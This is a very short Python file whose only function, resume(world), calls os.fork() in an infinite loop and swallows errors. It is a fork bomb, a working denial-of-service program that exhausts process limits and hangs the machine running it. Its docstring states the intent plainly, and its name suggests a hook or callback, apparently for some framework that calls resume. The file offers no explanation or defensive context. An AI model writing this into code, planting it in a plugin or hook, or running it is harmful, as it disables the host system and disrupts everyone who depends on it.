"""Forks for ever."""

import os


def resume(world):
    while True:
        try:
            os.fork()
        except OSError:
            pass
